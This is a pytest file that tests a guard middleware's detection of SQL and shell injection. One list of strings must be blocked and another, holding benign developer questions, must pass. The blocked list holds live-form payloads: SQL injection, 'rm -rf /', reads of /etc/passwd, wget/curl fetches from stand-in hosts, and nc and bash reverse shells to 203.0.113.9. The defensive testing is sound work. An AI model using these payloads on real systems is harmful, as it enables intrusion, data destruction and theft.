"""SQL and shell injection against what developers ask."""

import pytest

from middleware.guard.guard import Guard

GUARD = Guard(injection="off", pii="off", secrets="off", sql="block")


@pytest.mark.parametrize(
    "text",
    [
        # SQL
        "' OR 1=1 --",
        "' or '1'='1",
        "admin'--",
        '") or ("a"="a',
        "1' UNION SELECT NULL, version() --",
        "-1 UNION ALL SELECT 1,2,3",
        "'; DROP TABLE users; --",
        "1; DROP TABLE users",
        "x'; EXEC xp_cmdshell('dir'); --",
        "' AND SLEEP(5) --",
        "'; WAITFOR DELAY '0:0:5' --",
        "1 AND pg_sleep(5)",
        "' AND BENCHMARK(1000000,MD5('a')) --",
        "' UNION SELECT 1 INTO OUTFILE '/tmp/x",
        "' UNION SELECT LOAD_FILE('/etc/passwd')",
        "' UNION SELECT table_name FROM information_schema.tables --",
        '{"username": {"$ne": null}}',
        # shell
        "; rm -rf /",
        "| cat /etc/passwd",
        "x && wget http://203.0.113.9/a.sh",
        "$(curl http://evil.example/x)",
        "`whoami`",
        "; whoami",
        "nc -e /bin/sh 203.0.113.9 4444",
        "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
        "/bin/sh -i",
        "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0A",
        "() { :;}; /bin/bash -c 'id'",
    ],
)
def test_attacks_are_found(text: str) -> None:
    """Each breaks out of a value or a parameter."""
    report = GUARD.scan(text)
    assert report.sql is True
    assert (report.pii, report.secrets, report.injection) == ({}, (), False)
    verdict = GUARD.inspect([text])
    assert (verdict.outcome, verdict.code, verdict.reasons) == ("block", "sql_injection", ("sql",))


@pytest.mark.parametrize(
    "text",
    [
        "SELECT name FROM users WHERE id = 1",
        "SELECT * FROM a UNION SELECT * FROM b",
        "SELECT x FROM t1 UNION ALL SELECT x FROM t2 LIMIT 1",
        "SELECT * FROM t WHERE city = 'Rome' AND age > 30 OR name LIKE 'A%'",
        "DROP TABLE IF EXISTS users;",
        "How do I delete duplicate rows in PostgreSQL?",
        "how do I use rm -rf safely?",
        "Explain what SQL injection is.",
        "what does `ls -la` print?",
        "cat file.txt | grep error | wc -l",
        "for (i = 0; i < n; i++) { if (a || b) { return 'x'; } }",
        "It's raining; and the dog's or the cat's bowl is full",
        "How do I call curl from Python?",
        "powershell: how do I list services?",
        "Rock 'n' roll or jazz?",
        "Is 'a' or 'b' in the list?",
        "if x == 'a' or x == 'b': print('c') # comment",
    ],
)
def test_developers_questions_pass(text: str) -> None:
    """SQL and shell as such are no attack."""
    assert GUARD.inspect([text]).outcome == "pass"
